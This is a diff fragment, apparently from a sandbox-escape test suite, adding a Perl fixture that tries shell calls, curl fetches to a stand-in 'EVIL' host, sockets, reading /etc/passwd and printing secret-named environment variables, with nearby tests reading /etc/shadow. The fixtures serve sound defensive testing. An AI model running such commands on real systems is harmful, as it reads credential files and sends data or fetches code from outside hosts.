@@ -116,6 +116,21 @@ cat /etc/shadow && echo ESCAPED shadow
 env | grep -i key && echo ESCAPED key
 true
 `,
+  'reaching-out.pl': `print "begun\\n";
+sub attempt {
+  my ($what, $act) = @_;
+  my $result = eval { $act->() };
+  print $what, $result ? " gave something" : " refused", "\\n";
+}
+attempt("shell", sub { system("curl", "EVIL/perl-shell") == 0 });
+attempt("backticks", sub { \`curl EVIL/perl-backticks\` });
+attempt("pipe", sub { open(my $pipe, "-|", "curl EVIL/perl-pipe") });
+attempt("fork", sub { defined fork });
+attempt("socket", sub { require IO::Socket::INET; IO::Socket::INET->new("127.0.0.1:80") });
+attempt("http", sub { require HTTP::Tiny; HTTP::Tiny->new->get("EVIL/perl-http")->{success} });
+attempt("passwords", sub { open(my $file, "<", "/etc/passwd") && print("ESCAPED passwords\\n") });
+print "ESCAPED $_\\n" for grep { /key|token|secret/i } keys %ENV;
+`,
   'reaching-out.scm': `(display "begun")
 (js-eval "fetch('EVIL/scheme')")
 (display "ESCAPED js-eval")
